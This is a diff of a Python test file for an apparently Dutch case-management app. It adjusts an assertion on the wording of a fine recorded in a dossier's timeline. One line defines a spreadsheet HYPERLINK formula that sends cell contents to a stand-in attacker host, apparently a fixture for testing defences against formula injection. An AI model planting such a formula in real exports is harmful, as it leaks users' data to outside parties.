@@ -94,7 +94,7 @@ def test_fine_is_proposed_then_decided_by_a_teamleider(dossier, klantmanager, te
     voorstel.refresh_from_db()
     assert (voorstel.status, voorstel.besloten_door) == ("opgelegd", teamleider)
     titels = list(TijdlijnGebeurtenis.objects.filter(dossier=dossier, soort="sanctie").values_list("titel", flat=True))
-    assert "Boete van € 800.00 opgelegd" in titels
+    assert "Boete van € 800,00 opgelegd" in titels
 
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
